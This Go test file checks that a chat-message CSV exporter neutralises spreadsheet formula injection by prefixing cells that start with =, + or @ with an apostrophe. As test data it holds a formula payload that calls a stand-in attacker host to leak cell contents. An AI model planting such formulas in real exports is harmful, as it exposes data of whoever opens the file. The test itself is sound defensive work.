package export

import (
	"bytes"
	"encoding/csv"
	"os"
	"testing"
)

// TestCSVCellsCannotBeFormulas: a message whose text (or sender name)
// starts a spreadsheet formula is exported as plain text (finding 6).
func TestCSVCellsCannotBeFormulas(t *testing.T) {
	t.Parallel()
	ps := &partSet{dir: t.TempDir()}
	pf, err := ps.create("messages.csv")
	if err != nil {
		t.Fatal(err)
	}
	w, err := newCSV(pf, docMeta{Watermark: "test"})
	if err != nil {
		t.Fatal(err)
	}
	evil := `=HYPERLINK("http://evil.example/?"&A1,"打开")`
	if err := w.Write(Row{Conversation: "c1", From: "@e0", FromName: "+张三", Content: evil, Type: "text"}); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	defer ps.cleanup()
	data, err := os.ReadFile(ps.list[0].Path)
	if err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\uFEFF")))).ReadAll()
	if err != nil || len(recs) < 3 {
		t.Fatalf("%d rows, %v", len(recs), err)
	}
	if r := recs[len(recs)-1]; r[6] != "'"+evil || r[3] != "'@e0" || r[4] != "'+张三" {
		t.Fatalf("row %q", r)
	}
}
